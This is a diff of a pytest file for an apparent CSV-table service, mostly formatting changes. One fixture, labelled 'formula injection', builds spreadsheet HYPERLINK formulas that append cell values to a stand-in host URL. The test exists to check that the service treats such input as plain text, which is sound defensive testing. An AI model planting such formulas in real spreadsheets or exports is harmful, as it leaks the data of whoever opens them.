@@ -58,7 +58,9 @@ def test_a_bad_table_is_refused_over_the_api(tenant, content, status, code):
     assert not tenant.left_behind()
 
 
-@pytest.mark.parametrize("content", [pytest.param(case[0], id=name) for name, case in REFUSED.items()])
+@pytest.mark.parametrize(
+    "content", [pytest.param(case[0], id=name) for name, case in REFUSED.items()]
+)
 def test_a_bad_table_is_refused_on_the_command_line(command, tenant, tmp_path, content):
     (tmp_path / "table.csv").write_bytes(content)
     said = command("solve", "table.csv", "--yes")
@@ -98,7 +100,7 @@ ACCEPTED = {
         "long_text",
     ),
     "formula injection": (
-        rows_of("a,b,y", lambda n: f"\"=HYPERLINK(\"\"http://x/\"\"&A{n % 5})\",{n},{n % 2}"),
+        rows_of("a,b,y", lambda n: f'"=HYPERLINK(""http://x/""&A{n % 5})",{n},{n % 2}'),
         "formula_text",
     ),
     "one column": (rows_of("a", lambda n: f"{n}"), "one_column"),
